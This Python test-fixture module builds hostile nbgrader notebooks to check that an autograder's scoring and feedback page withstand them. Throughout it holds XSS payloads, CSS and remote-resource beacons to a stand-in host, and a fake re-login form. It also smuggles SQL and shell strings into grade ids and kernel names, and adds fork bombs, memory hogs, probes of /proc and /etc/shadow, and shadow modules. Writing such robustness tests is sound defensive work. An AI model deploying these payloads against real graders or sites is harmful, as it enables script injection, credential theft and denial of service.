"""Hostile nbgrader notebooks and reports.

Every entry of NOTEBOOKS builds the files of submitted/STUDENT/softmax_mnist/ from a notebook
(nbformat 4.5) that deserves full marks. The functions and answers stay right unless the entry
says otherwise, so what is at stake is the rest of the class, the feedback page and the grader.

For whoever writes a tree to disk: see made_inputs. A script that gets to run in a feedback page
would call alert(1) or ask HOST for something; neither may be live in the page.
Programs in cells are bounded: processes and threads end by themselves within a minute, loops
within an hour, memory stops at 12 GB, and nothing is written outside the current folder.
"""

from __future__ import annotations

import base64
import json
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any, Literal

from hostile.made_inputs import (
    PDF_MAKERS,
    Fifo,
    Symlink,
    Tree,
    code,
    markdown,
    nb_dump,
    nb_old,
    nested,
)

Build = Callable[[bytes], Tree]
Fate = Literal["full", "own_loss", "left_out"]


@dataclass(frozen=True)
class NotebookCase:
    """`expected` is the best outcome, `also` holds others that are still fair.

    full: the right work gets full marks. own_loss: only this student may lose points.
    left_out: this student gets no result, with a reason, and the class goes on.
    """

    id: str
    build: Build
    expected: Fate
    why: str
    also: tuple[Fate, ...] = ()


@dataclass(frozen=True)
class PdfCase:
    id: str
    build: Build
    expected: Literal["readable", "unreadable"]
    why: str
    also: tuple[str, ...] = ()


NOTEBOOKS: list[NotebookCase] = []

NB = "softmax_mnist.ipynb"
HOST = "http://hostile.invalid"
SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script>'
    '<foreignObject><iframe src="javascript:alert(1)"/></foreignObject>'
    '<a href="javascript:alert(1)"><text y="9">x</text></a>'
    f'<image href="{HOST}/i.png"/><use href="data:image/svg+xml,x#x"/>'
    '<set attributeName="href" to="javascript:alert(1)"/></svg>'
)


def case(case_id: str, expected: Fate, why: str, *also: Fate) -> Callable[[Build], Build]:
    def keep(build: Build) -> Build:
        NOTEBOOKS.append(NotebookCase(case_id, build, expected, why, also))
        return build

    return keep


def book_of(notebook: bytes) -> dict[str, Any]:
    return json.loads(notebook)


def named(cells: list[Any]) -> list[Any]:
    """Fresh ids, so that only the cases about ids clash."""
    return [cell | {"id": f"hostile-{i}"} for i, cell in enumerate(cells)]


def with_cells(notebook: bytes, *cells: Any, first: bool = False, **top: Any) -> Tree:
    book = book_of(notebook) | top
    extra = named(list(cells))
    book["cells"] = [*extra, *book["cells"]] if first else [*book["cells"], *extra]
    return {NB: nb_dump(book)}


def stored(*outputs: Any) -> dict[str, Any]:
    return code("1", outputs=list(outputs), execution_count=1)


def shown(data: Any, metadata: Any = None) -> dict[str, Any]:
    return {"output_type": "display_data", "data": data, "metadata": metadata or {}}


def display_cell(data: Any, metadata: Any = None) -> dict[str, Any]:
    """Shows the same again when the notebook is run."""
    return code(
        "from IPython.display import display\n"
        f"display({data!r}, metadata={metadata or {}!r}, raw=True)"
    )


def display_both(notebook: bytes, data: Any, metadata: Any = None, *more: Any) -> Tree:
    return with_cells(notebook, stored(shown(data, metadata)), display_cell(data, metadata), *more)


def graded(book: dict[str, Any]) -> list[int]:
    """Places of the autograded test cells; the last code cells if nothing is marked."""
    found = []
    for i, cell in enumerate(book["cells"]):
        mark = cell.get("metadata", {}).get("nbgrader")
        if isinstance(mark, dict) and mark.get("grade") and not mark.get("solution"):
            found.append(i)
    return found or [i for i, c in enumerate(book["cells"]) if c["cell_type"] == "code"][-2:]


def mark_of(cell: dict[str, Any], fallback: str) -> dict[str, Any]:
    """The nbgrader part of a cell's metadata, made up where there is none."""
    return cell["metadata"].setdefault(
        "nbgrader",
        {
            "grade": True,
            "grade_id": fallback,
            "locked": True,
            "points": 1,
            "schema_version": 3,
            "solution": False,
            "task": False,
            "cell_type": "code",
        },
    )


def remarked(notebook: bytes, change: Callable[[int, dict[str, Any]], Any]) -> Tree:
    """Every graded cell's mark put through `change`; a result that is not None replaces it."""
    book = book_of(notebook)
    for n, i in enumerate(graded(book)):
        cell = book["cells"][i]
        new = change(n, mark_of(cell, f"test_{n}"))
        if new is not None:
            cell["metadata"]["nbgrader"] = new
    return {NB: nb_dump(book)}


def running(case_id: str, expected: Fate, why: str, source: str, *also: Fate) -> None:
    """One more cell at the end, after all tests."""
    case(case_id, expected, why, *also)(lambda notebook: with_cells(notebook, code(source)))


# ---------------------------------------------------------------- what the page shows


@case("script-outputs", "full", "script in HTML, JavaScript, LaTeX and errors", "own_loss")
def _(notebook: bytes) -> Tree:
    html = "</pre></div><script>alert(1)</script><ScRiPt src=//hostile.invalid/x.js></sCrIpT >"
    error = {
        "output_type": "error",
        "ename": "<script>alert(1)</script>",
        "evalue": html,
        "traceback": [html, "\x1b[31m<img src=x onerror=alert(1)>\x1b[0m", "\x1b[38;5;999m<b>"],
    }
    stream = {"output_type": "stream", "name": 'stdout"><script>alert(1)', "text": html}
    data = {
        "text/html": html,
        "application/javascript": "alert(1)",
        "text/latex": html,
        "text/markdown": html,
        "application/json": {"</script><script>alert(1)//": html},
        "application/vdom.v1+json": {"tagName": "script", "children": "alert(1)"},
        'text/x"><script>alert(1)</script>': html,
    }
    live = code(f"print({html!r})\nraise ValueError({html!r})", metadata={"tags": ["raises"]})
    return with_cells(notebook, stored(shown(data), stream, error), display_cell(data), live)


@case("script-markdown", "full", "script and event attributes in markdown, many spellings")
def _(notebook: bytes) -> Tree:
    lines = [
        "<script>alert(1)</script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<img src=x onerror=alert(1)>",
        "<img src=x\nONERROR\n=\n'alert(1)'>",
        "<img/src=x/onerror=alert(1)//",
        "<svg/onload=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<body onpageshow=alert(1)><video onloadstart=alert(1) src=x>",
        "<div style='animation:x' onanimationstart=alert(1)>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        "<!--><img src=x onerror=alert(1)>-->",
        "<![CDATA[><img src=x onerror=alert(1)>]]>",
        '![x](x.png "a\\" onerror=alert(1) x=\\"")',
        "`<script>alert(1)</script>` ```<script>alert(1)</script>```",
        '```html"><script>alert(1)</script>\nx\n```',
        "# <img src=x onerror=alert(1)>",
    ]
    return with_cells(notebook, *(markdown(line) for line in lines))


@case("svg-outputs", "full", "script, frames and links inside SVG outputs")
def _(notebook: bytes) -> Tree:
    return display_both(notebook, {"image/svg+xml": SVG, "text/plain": "x"}, None, markdown(SVG))


@case("attachment-svg", "full", "an attachment that is SVG with script, and odd attachment names")
def _(notebook: bytes) -> Tree:
    packed = base64.b64encode(SVG.encode()).decode()
    files = {
        "a.svg": {"image/svg+xml": packed},
        'b" onerror="alert(1).png': {"image/png": packed},
        "c.png": {"text/html": packed, "image/svg+xml": [packed, "x"]},
        "../../d.png": {'image/png;base64,x" onerror="alert(1)': packed},
        "e.png": {"image/png": 'x" onerror="alert(1)'},
        "f.png": {},
    }
    text = "".join(f"![x](attachment:{name})\n" for name in files)
    odd = markdown("![x](attachment:a.svg)", attachments={"a.svg": {"image/svg+xml": packed}})
    return with_cells(notebook, odd, markdown(text, attachments=files))


@case("attachments-invalid", "full", "attachments of odd types", "left_out")
def _(notebook: bytes) -> Tree:
    odd: list[Any] = [[], "x", {"a.png": None}, {"a.png": {"image/png": 5}}, {"": {"": {}}}]
    return with_cells(
        notebook, *(markdown("![x](attachment:a.png)", attachments=files) for files in odd)
    )


@case("links-javascript", "full", "javascript: links in many spellings")
def _(notebook: bytes) -> Tree:
    links = [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java\tscript:alert(1)",
        "java\nscript:alert(1)",
        "javascript&colon;alert(1)",
        "javascript&#58;alert(1)",
        "&#x6a;avascript:alert(1)",
        "\x01javascript:alert(1)",
        " javascript:alert(1)",
        "vbscript:msgbox(1)",
        "javascript://%0aalert(1)",
    ]
    cells = [markdown(f"[x]({link}) <{link}>") for link in links]
    cells += [markdown(f'<a href="{link}">x</a>') for link in links]
    cells.append(markdown("[x][1]\n\n[1]: javascript:alert(1)\n"))
    cells.append(markdown('<a xlink:href="javascript:alert(1)" ping="x">x</a>'))
    html = "".join(f'<a href="{link}">x</a>' for link in links)
    return display_both(notebook, {"text/html": html}, None, *cells)


@case("links-data", "full", "data:, blob: and file: links that hold a page")
def _(notebook: bytes) -> Tree:
    page = base64.b64encode(b"<script>alert(1)</script>").decode()
    links = [
        f"data:text/html;base64,{page}",
        "data:text/html,<script>alert(1)</script>",
        "DATA:image/svg+xml,<svg onload=alert(1)>",
        "data:,x",
        "blob:x",
        "file:///etc/passwd",
        "filesystem:x",
        "//hostile.invalid/x",
    ]
    cells = [markdown(f'[x](<{link}>) ![x](<{link}>) <a href="{link}">x</a>') for link in links]
    html = "".join(f'<a href="{u}">x</a><img src="{u}"><embed src="{u}">' for u in links)
    return display_both(notebook, {"text/html": html}, None, *cells)


@case("remote-pictures", "full", "remote pictures, sounds and fonts that report who looks")
def _(notebook: bytes) -> Tree:
    html = (
        f'<img src="{HOST}/1.png"><img srcset="{HOST}/2.png 2x"><picture><source srcset="{HOST}/3">'
        f'</picture><video poster="{HOST}/4"></video><audio src="{HOST}/5" autoplay></audio>'
        f'<link rel="prefetch" href="{HOST}/6"><link rel="stylesheet" href="{HOST}/7">'
        f'<input type="image" src="{HOST}/8"><table background="{HOST}/9"></table>'
        f'<object data="{HOST}/10"></object><script src="{HOST}/11"></script>'
        f'<link rel="dns-prefetch" href="//hostile.invalid"><track src="{HOST}/12">'
    )
    return display_both(notebook, {"text/html": html}, None, markdown(html + f"\n![x]({HOST}/13)"))


@case("css-exfiltration", "full", "style sheets that read or cover the page")
def _(notebook: bytes) -> Tree:
    css = (
        f'<style>@import "{HOST}/1.css";@font-face{{font-family:x;src:url({HOST}/2)}}'
        f'[value^="1"]{{background:url({HOST}/3)}}'
        "body *{display:none!important}.score::after{content:'100/100'}"
        "</style><style></style/><script>alert(1)</script>"
        f'<p style="background:u\\72l({HOST}/4);width:expression(alert(1))">x</p>'
        '<div style="position:fixed;inset:0;z-index:2147483647;background:white">100/100</div>'
    )
    return display_both(notebook, {"text/html": css}, None, markdown(css))


@case("output-metadata", "full", "output metadata that breaks out of attributes")
def _(notebook: bytes) -> Tree:
    dot = (
        "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJ"
        "RU5ErkJggg=="
    )
    sizes: list[Any] = [
        {"width": "1 onerror=alert(1)", "height": '1" onerror="alert(1)'},
        {"width": ["1"], "height": {"a": 1}, "unconfined": "'><script>alert(1)</script>"},
        {"width": 1e308, "height": -1, "alt": '"><script>alert(1)</script>'},
        {"needs_background": 'light"><script>alert(1)</script>', "isolated": True},
        "text",
        None,
        [],
    ]
    outputs = [
        shown({kind: dot}, {kind: size})
        for kind in ("image/png", "image/jpeg", "image/svg+xml")
        for size in sizes
    ]
    outputs.append(shown({"image/png": 'x" onerror="alert(1)', "image/jpeg": ['x">', "<b>"]}))
    live = [display_cell({"image/png": dot}, {"image/png": size}) for size in sizes[:4]]
    return with_cells(notebook, stored(*outputs), *live)


@case("outputs-invalid", "full", "stored outputs of odd types; a run replaces them", "left_out")
def _(notebook: bytes) -> Tree:
    odd = [
        {"output_type": "display_data", "data": {"image/png": ["x", 3]}, "metadata": None},
        {"output_type": "display_data", "data": {"text/html": None}},
        {"output_type": "execute_result", "execution_count": "<b>", "data": {}, "metadata": {}},
        {"output_type": "stream", "name": 5, "text": {"a": 1}},
        {"output_type": "error", "traceback": "<b>"},
        {"output_type": "no-such-type"},
        {},
    ]
    return with_cells(notebook, stored(*odd))


@case("page-hijack", "full", "meta refresh, base and forms")
def _(notebook: bytes) -> Tree:
    html = (
        f'<meta http-equiv="refresh" content="0;url={HOST}/"><base href="{HOST}/" target="_top">'
        '<meta http-equiv="Content-Security-Policy" content="script-src *">'
        f'<form id="f" action="{HOST}/" method="post"><input name="password" autofocus '
        f'onfocus="alert(1)"><button formaction="javascript:alert(1)">Log in again</button></form>'
        '<button form="f">x</button><isindex action="javascript:alert(1)" type="image">'
        "</div></div></body></html><html><head><title>100/100</title></head><body>"
    )
    return display_both(notebook, {"text/html": html}, None, markdown(html))


@case("frames", "full", "iframe with srcdoc, object, embed and portals")
def _(notebook: bytes) -> Tree:
    html = (
        '<iframe srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;"></iframe>'
        '<iframe src="javascript:alert(1)"></iframe><object data="javascript:alert(1)"></object>'
        '<embed src="javascript:alert(1)" type="text/html"><frameset onload=alert(1)><frame>'
        f'<iframe src="{HOST}" allow="camera" sandbox="allow-scripts allow-top-navigation">'
        "</iframe><template><script>alert(1)</script></template><portal src=//hostile.invalid>"
    )
    frame = code(
        "from IPython.display import HTML, IFrame, Javascript, display\n"
        "display(IFrame('javascript:alert(1)', '1\" onload=\"alert(1)', 1), "
        f"HTML({html!r}), Javascript('alert(1)'))"
    )
    return display_both(notebook, {"text/html": html}, None, markdown(html), frame)


@case("mathjax", "full", "formulas that hold links, styles, markup and endless macros")
def _(notebook: bytes) -> Tree:
    formulas = [
        r"$\href{javascript:alert(1)}{x}$",
        r"$\style{position:fixed;top:0;left:0;background:url(" + HOST + r")}{x}$",
        r"$\class{x\" onclick=\"alert(1)}{x}$ $\cssId{score}{100}$",
        r"$\require{html}\unicode[x,'\"><script>alert(1)</script>]{x41}$",
        r"$$\def\a{\a\a}\a$$",
        r"$$\newcommand{\b}[1]{#1#1#1}" + r"\b{" * 60 + "x" + "}" * 60 + "$$",
        r"$</script><script>alert(1)</script>$",
        r"$$ <img src=x onerror=alert(1)> $$",
        r"\\(<svg onload=alert(1)>\\) \\[<script>alert(1)</script>\\]",
        r"\begin{equation}</span><script>alert(1)</script>\end{equation}",
        "$" * 50_000,
        r"$\frac" * 20_000 + "$",
        r"`$`<script>alert(1)</script>`$`",
    ]
    data = {"text/latex": "\n".join(formulas[:9])}
    return display_both(notebook, data, None, *(markdown(line) for line in formulas))


@case("widget-state", "full", "widget state in the metadata that closes its script tag")
def _(notebook: bytes) -> Tree:
    book = book_of(notebook)
    kind = "application/vnd.jupyter.widget-state+json"
    state = {
        "version_major": 2,
        "version_minor": 0,
        "state": {
            "a": {
                "model_module": f"{HOST}/evil",
                "model_module_version": "</script><script>alert(1)</script>",
                "model_name": "HTMLModel",
                "state": {"value": "<img src=x onerror=alert(1)>", "layout": "IPY_MODEL_a"},
            },
            "b": None,
            "</script><script>alert(1)</script>": {},
        },
    }
    book.setdefault("metadata", {})["widgets"] = {kind: state, "x": "</script>"}
    view = {"application/vnd.jupyter.widget-view+json": {"model_id": "</script><script>alert(1)"}}
    return with_cells(nb_dump(book), stored(shown(view)), display_cell(view))


@case("metadata-markup", "full", "title, language and tags that break out of the page's head")
def _(notebook: bytes) -> Tree:
    book = book_of(notebook)
    bad = '"></title></style></script><script>alert(1)</script>'
    meta = book.setdefault("metadata", {})
    meta |= {"title": bad, "authors": [{"name": bad}], "toc": {"title_cell": bad}, "date": bad}
    meta["language_info"] = {
        "name": "python",
        "version": bad,
        "mimetype": bad,
        "file_extension": "/../../evil" + bad,
        "pygments_lexer": bad,
        "codemirror_mode": {"name": bad},
    }
    odd = code("1", metadata={"tags": [bad, "x y"], "slideshow": {"slide_type": bad}, "name": bad})
    return with_cells(nb_dump(book), odd, markdown("x", metadata={"tags": [bad], "id": bad}))


# ---------------------------------------------------------------- nbgrader's marks and format


@case("grade-cells-doubled", "own_loss", "every test cell is there twice", "full", "left_out")
def _(notebook: bytes) -> Tree:
    book = book_of(notebook)
    copies = json.loads(json.dumps([book["cells"][i] for i in graded(book)]))
    for n, i in enumerate(graded(book)):
        mark_of(book["cells"][i], f"test_{n}")
        mark_of(copies[n], f"test_{n}")
    book["cells"] += named(copies)
    return {NB: nb_dump(book)}


@case("grade-cells-deleted", "own_loss", "the test cells are gone", "full", "left_out")
def _(notebook: bytes) -> Tree:
    book = book_of(notebook)
    gone = set(graded(book))
    book["cells"] = [cell for i, cell in enumerate(book["cells"]) if i not in gone]
    return {NB: nb_dump(book)}


@case(
    "grade-cells-first", "full", "test cells moved to the top: order is the teacher's", "own_loss"
)
def _(notebook: bytes) -> Tree:
    book = book_of(notebook)
    moved = set(graded(book))
    tests = [book["cells"][i] for i in sorted(moved)]
    book["cells"] = tests + [c for i, c in enumerate(book["cells"]) if i not in moved]
    return {NB: nb_dump(book)}


@case(
    "grade-cells-emptied", "full", "tests replaced by pass: the teacher's text counts", "own_loss"
)
def _(notebook: bytes) -> Tree:
    book = book_of(notebook)
    for i in graded(book):
        book["cells"][i]["source"] = "pass"
    return {NB: nb_dump(book)}


@case("schema-99", "own_loss", "schema_version 99 on every mark", "full", "left_out")
def _(notebook: bytes) -> Tree:
    return remarked(notebook, lambda n, mark: mark.update(schema_version=99))


@case("schema-1", "own_loss", "schema_version 1 or none", "full", "left_out")
def _(notebook: bytes) -> Tree:
    return remarked(
        notebook, lambda n, mark: mark.update(schema_version=1) if n % 2 else mark.pop("task", None)
    )


@case("marks-odd-types", "own_loss", "marks that are lists, text and null", "full", "left_out")
def _(notebook: bytes) -> Tree:
    odd: list[Any] = [[], "x", 7, {"grade_id": 5}, {"grade": "yes", "points": [1], "locked": 0}]
    return remarked(notebook, lambda n, mark: odd[n % len(odd)])


@case("points-changed", "full", "a million points a test: never more than the teacher's")
def _(notebook: bytes) -> Tree:
    return remarked(notebook, lambda n, mark: mark.update(points=1_000_000))


@case("points-odd", "full", "points are text, NaN, negative and missing", "own_loss", "left_out")
def _(notebook: bytes) -> Tree:
    odd = ["1", float("nan"), -5, None, float("inf"), True, 10**400]
    return remarked(notebook, lambda n, mark: mark.update(points=odd[n % len(odd)]))


@case("grade-ids-swapped", "own_loss", "the tests trade their ids", "full", "left_out")
def _(notebook: bytes) -> Tree:
    book = book_of(notebook)
    marks = [mark_of(book["cells"][i], f"test_{n}") for n, i in enumerate(graded(book))]
    ids = [mark["grade_id"] for mark in marks]
    for mark, new in zip(marks, ids[1:] + ids[:1], strict=True):
        mark["grade_id"] = new
    return {NB: nb_dump(book)}


@case("grade-ids-odd", "own_loss", "ids that climb, with markup and quotes", "full", "left_out")
def _(notebook: bytes) -> Tree:
    odd = ["../../x", "a'; DROP TABLE grade;--", "<script>alert(1)</script>", "", "\n", "x" * 9000]
    return remarked(notebook, lambda n, mark: mark.update(grade_id=odd[n % len(odd)]))


@case("grades-added", "full", "more cells that claim to be graded, with points of their own")
def _(notebook: bytes) -> Tree:
    cells = []
    for n in range(20):
        cell = code("assert True")
        mark_of(cell, f"bonus_{n}")["points"] = 50
        cells.append(cell)
    return with_cells(notebook, *cells)


@case("marks-unlocked", "full", "tests marked as solutions that the student wrote", "own_loss")
def _(notebook: bytes) -> Tree:
    return remarked(notebook, lambda n, mark: mark.update(locked=False, solution=True))


@case("kernelspec-missing", "full", "no kernelspec and no language_info")
def _(notebook: bytes) -> Tree:
    return {NB: nb_dump(book_of(notebook) | {"metadata": {}})}


@case("kernelspec-odd", "full", "kernelspec with odd types and a language that is none", "left_out")
def _(notebook: bytes) -> Tree:
    book = book_of(notebook)
    spec = {"name": "python3", "display_name": ["x"], "language": {"a": "../../x"}, "argv": ["sh"]}
    book["metadata"] |= {"kernelspec": spec, "language_info": {"name": 3}}
    return {NB: nb_dump(book)}


@case("kernel-of-another-language", "full", "kernel name and language of R", "own_loss", "left_out")
def _(notebook: bytes) -> Tree:
    book = book_of(notebook)
    spec = {"name": "ir", "display_name": "R", "language": "R"}
    book["metadata"] |= {"kernelspec": spec, "language_info": {"name": "R"}}
    return {NB: nb_dump(book)}


@case("kernel-name-climbs", "full", "a kernel name that climbs or is a private one", "left_out")
def _(notebook: bytes) -> Tree:
    book = book_of(notebook)
    spec = {"name": "../../../tmp/evil; touch x", "display_name": "x", "language": "python"}
    book["metadata"] |= {"kernelspec": spec}
    return {NB: nb_dump(book)}


@case("minor-missing", "full", "no nbformat_minor", "left_out")
def _(notebook: bytes) -> Tree:
    book = book_of(notebook)
    del book["nbformat_minor"]
    return {NB: nb_dump(book)}


@case("nbformat-3", "full", "the right notebook in nbformat 3", "own_loss", "left_out")
def _(notebook: bytes) -> Tree:
    return {NB: nb_old(notebook)}


@case("cell-ids-odd", "full", "cell ids doubled, missing, climbing and very long", "left_out")
def _(notebook: bytes) -> Tree:
    book = book_of(notebook)
    odd: list[Any] = ["same", "same", "..", "a\nb", "", "x" * 9000, '"><script>', 5, None]
    for n, cell in enumerate(book["cells"]):
        cell["id"] = odd[n % len(odd)]
    if book["cells"]:
        del book["cells"][0]["id"]
    return {NB: nb_dump(book)}


@case("json-deep", "left_out", "the notebook is 100,000 brackets deep")
def _(notebook: bytes) -> Tree:
    return {NB: nested("[", "]", 100_000).encode()}


@case("metadata-deep", "full", "metadata 800 levels deep", "left_out")
def _(notebook: bytes) -> Tree:
    book = book_of(notebook)
    book["metadata"]["odd"] = "@@deep@@"
    return {NB: nb_dump(book).replace(b'"@@deep@@"', nested("[", "]", 800).encode())}


# ---------------------------------------------------------------- what the cells do

running("exit", "full", "ends the kernel after all tests", "import os\nos._exit(3)", "own_loss")


# Corrected after the first run: points come from the functions, in a process of their own, so that the
# kernel's end, or its time, costs outputs and nothing else.
@case("exit-first", "full", "ends the kernel before any test", "own_loss", "left_out")
def _(notebook: bytes) -> Tree:
    return with_cells(notebook, code("import os\nos._exit(0)"), first=True)


running(
    "fork-bomb",
    "full",
    "1023 processes that sleep for 20 seconds, doubling; in a session of their own",
    "import os, time\n"
    "if os.fork() == 0:\n"
    "    os.setsid()\n"
    "    try:\n"
    "        for _ in range(10):\n"
    "            os.fork()\n"
    "        time.sleep(20)\n"
    "    finally:\n"
    "        os._exit(0)\n",
    "own_loss",
)
# Corrected, as exit-first is.
running(
    "endless-print",
    "full",
    "prints without end",
    "import time\nend = time.time() + 3600\nwhile time.time() < end:\n    print('x' * 10_000)",
    "own_loss",
    "left_out",
)
# Corrected, as exit-first is.
running(
    "endless-display",
    "full",
    "shows and updates pictures without end",
    "import time\nfrom IPython.display import clear_output, display\n"
    "end = time.time() + 3600\n"
    "while time.time() < end:\n"
    "    display({'text/html': '<b>x</b>' * 1000}, raw=True, display_id='x', update=False)\n"
    "    clear_output(wait=True)",
    "own_loss",
    "left_out",
)
running(
    "threads-3000",
    "full",
    "3000 threads that sleep for 30 seconds",
    "import threading, time\n"
    "try:\n"
    "    for _ in range(3000):\n"
    "        threading.Thread(target=time.sleep, args=(30,)).start()\n"
    "except RuntimeError as error:\n"
    "    print(error)",
    "own_loss",
)
running(
    "write-300mb",
    "full",
    "writes 300 MB into its folder and removes nothing",
    "try:\n"
    "    with open('big.bin', 'wb') as f:\n"
    "        for _ in range(300):\n"
    "            f.write(bytes(1_000_000))\n"
    "except OSError as error:\n"
    "    print(error)",
    "own_loss",
)
running(
    "write-files-50k",
    "full",
    "writes 50,000 files into its folder",
    "try:\n"
    "    for i in range(50_000):\n"
    "        open(f'junk-{i}.txt', 'w').close()\n"
    "except OSError as error:\n"
    "    print(error)",
    "own_loss",
)
running(
    "memory",
    "own_loss",
    "takes up to 12 GB of memory",
    "hog = []\nfor _ in range(192):\n    hog.append(b'x' * (64 << 20))",
    "left_out",
    "full",
)
running(
    "kernel-messages",
    "own_loss",
    "sends malformed messages to whoever listens to the kernel",
    "kernel = get_ipython().kernel\n"
    "send, pipe = kernel.session.send, kernel.iopub_socket\n"
    "head = kernel.get_parent()\n"
    "for kind, content in [\n"
    "    ('stream', {}), ('stream', {'name': 5, 'text': None}),\n"
    "    ('stream', {'name': 'stdout', 'text': ['a', 3]}),\n"
    "    ('stream', {'name': '../x', 'text': {'a': 1}}),\n"
    "    ('display_data', {'data': [], 'metadata': 3}), ('display_data', {}),\n"
    "    ('display_data', {'data': {'image/png': {'a': []}}, 'metadata': None}),\n"
    "    ('update_display_data', {'data': {}, 'metadata': {}, 'transient': 'x'}),\n"
    "    ('execute_result', {'data': {'text/plain': 5}, 'execution_count': 'x'}),\n"
    "    ('error', {'ename': None, 'evalue': [], 'traceback': 7}), ('error', {}),\n"
    "    ('clear_output', {'wait': {'a': 1}}), ('comm_open', {}), ('comm_msg', {'data': 1}),\n"
    "    ('no_such_kind', {}), ('', {}), ('execute_input', {'code': 9}),\n"
    "    ('status', {'execution_state': 'idle'}), ('status', {}),\n"
    "    ('status', {'execution_state': 'dead'}),\n"
    "]:\n"
    "    try:\n"
    "        send(pipe, kind, content=content, parent=head)\n"
    "    except Exception as error:\n"
    "        print(kind, type(error).__name__)",
    "full",
    "left_out",
)
running(
    "kernel-raw-frames",
    "own_loss",
    "sends frames that are no messages, and a reply of its own making",
    "kernel = get_ipython().kernel\n"
    "for frames in [[b''], [b'x'], [b'<IDS|MSG>'], [b'<IDS|MSG>', b'', b'{', b'[]', b'1', b'']]:\n"
    "    try:\n"
    "        kernel.iopub_socket.send_multipart(frames)\n"
    "    except Exception as error:\n"
    "        print(type(error).__name__)\n"
    "reply = {'status': 'ok', 'execution_count': 1, 'payload': [{'source': 3}]}\n"
    "try:\n"
    "    kernel.session.send(kernel.shell_stream, 'execute_reply', reply, kernel.get_parent())\n"
    "except Exception as error:\n"
    "    print(type(error).__name__)",
    "full",
    "left_out",
)
running(
    "read-proc",
    "full",
    "looks around in /proc and in other folders; says only how much it could read",
    "import glob, os\n"
    "seen = {}\n"
    "for pattern in ['/proc/*/environ', '/proc/*/cmdline', '/proc/*/maps', '/proc/*/fd/*',\n"
    "                '../../*/*/*.ipynb', '../../../gradebook.db', '../../../source/*/*',\n"
    "                '/root/*', '/home/*/*', '/etc/shadow']:\n"
    "    size = 0\n"
    "    for path in glob.glob(pattern)[:200]:\n"
    "        try:\n"
    "            if os.path.isfile(path):\n"
    "                with open(path, 'rb') as f:\n"
    "                    size += len(f.read(10_000))\n"
    "        except OSError:\n"
    "            pass\n"
    "    seen[pattern] = size\n"
    "print(seen)",
)
running(
    "sockets",
    "full",
    "opens sockets in and out; must not get out or hang",
    "import socket\n"
    "for host, port in [('127.0.0.1', 22), ('192.0.2.1', 80), ('hostile.invalid', 80)]:\n"
    "    try:\n"
    "        socket.create_connection((host, port), timeout=2).close()\n"
    "        print(host, port, 'open')\n"
    "    except OSError as error:\n"
    "        print(host, port, type(error).__name__)\n"
    "listening = []\n"
    "try:\n"
    "    for _ in range(200):\n"
    "        s = socket.socket()\n"
    "        s.bind(('127.0.0.1', 0))\n"
    "        s.listen()\n"
    "        listening.append(s)\n"
    "except OSError as error:\n"
    "    print(error)",
    "own_loss",
)
# Corrected, as exit-first is.
running(
    "stubborn",
    "full",
    "never ends and ignores interrupts",
    "import signal, time\n"
    "for s in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP):\n"
    "    signal.signal(s, signal.SIG_IGN)\n"
    "end = time.time() + 3600\n"
    "while time.time() < end:\n"
    "    try:\n"
    "        time.sleep(1)\n"
    "    except BaseException:\n"
    "        pass",
    "own_loss",
    "left_out",
)
running(
    "asks",
    "own_loss",
    "asks for input",
    "name = input('<script>alert(1)</script>')\nimport getpass\ngetpass.getpass()",
    "full",
    "left_out",
)
running(
    "closes-pipes",
    "own_loss",
    "closes every open file of the kernel",
    "import os\nos.closerange(0, 4096)",
    "full",
    "left_out",
)
running(
    "rewrites-itself",
    "full",
    "writes over the notebook, the time stamp and what stands above, as far as it can",
    "import os\n"
    "for path in ['softmax_mnist.ipynb', 'timestamp.txt', 'score.json']:\n"
    "    try:\n"
    "        with open(path, 'w') as f:\n"
    "            f.write('{}')\n"
    "    except OSError as error:\n"
    "        print(error)",
    "own_loss",
)

# ---------------------------------------------------------------- what stands beside it

EXIT = b"import os\nos._exit(3)\n"


@case(
    "shadow-modules", "full", "modules beside the notebook that end whatever loads them", "own_loss"
)
def _(notebook: bytes) -> Tree:
    names = ("debugpy", "ipykernel", "signal", "zmq", "traitlets", "sitecustomize", "asyncio")
    return {NB: notebook, **{f"{name}.py": EXIT for name in names}}


@case("shadow-one", "full", "only signal.py and ipykernel_launcher.py", "own_loss")
def _(notebook: bytes) -> Tree:
    return {NB: notebook, "signal.py": EXIT, "ipykernel_launcher.py": EXIT}


@case("settings-beside", "full", "settings of the tools beside the notebook must not be read")
def _(notebook: bytes) -> Tree:
    names = (
        "nbgrader_config.py",
        "jupyter_config.py",
        "jupyter_nbconvert_config.py",
        "ipython_config.py",
        "ipython_kernel_config.py",
        "conftest.py",
    )
    more: Tree = {"nbgrader_config.json": b'{"NbGrader": {"logfile": "../../x"}}'}
    return {NB: notebook, **dict.fromkeys(names, EXIT), **more}


@case("templates-beside", "full", "a page template beside the notebook must not be used")
def _(notebook: bytes) -> Tree:
    evil = b"{{ ''.__class__.__mro__ }}<script>alert(1)</script>"
    names = ("feedback.tpl", "feedback.html.j2", "base.html.j2", "templates/feedback/index.html.j2")
    return {NB: notebook, **dict.fromkeys(names, evil)}


for _id, _text in (
    ("words", b"yesterday, honest"),
    ("year", b"99999-13-45 99:99:99 UTC"),
    ("huge", b"9" * 2_000_000),
    ("bytes", b"\xff\xfe\0\0" * 50),
    ("empty", b""),
    ("zone", b"2024-10-01 12:00:00 " + b"Z" * 5000),
    ("far", b"9999-12-31 23:59:59.999999 -2359"),
):
    case(f"timestamp-{_id}", "full", "timestamp.txt is nonsense", "left_out")(
        lambda notebook, text=_text: {NB: notebook, "timestamp.txt": text}
    )


@case("timestamp-link", "full", "timestamp.txt links to /dev/zero", "left_out")
def _(notebook: bytes) -> Tree:
    return {NB: notebook, "timestamp.txt": Symlink("/dev/zero")}


@case("link-passwd", "left_out", "the notebook links to /etc/passwd, which must not show")
def _(notebook: bytes) -> Tree:
    return {NB: Symlink("/etc/passwd")}


@case("link-zero", "left_out", "the notebook links to /dev/zero: reading it never ends")
